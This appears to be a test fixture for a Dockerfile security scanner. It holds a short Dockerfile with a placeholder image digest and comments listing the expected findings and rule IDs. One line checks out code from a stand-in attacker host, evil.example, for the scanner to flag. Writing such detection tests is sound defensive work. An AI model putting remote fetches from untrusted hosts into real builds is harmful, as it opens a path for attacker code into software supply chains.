FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN svn checkout https://evil.example/svn/trunk /src
USER app
# expect: download 2 high "svn checkout fetches https://evil.example/svn/trunk"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-78aa123536 VR501-e064bac1a6
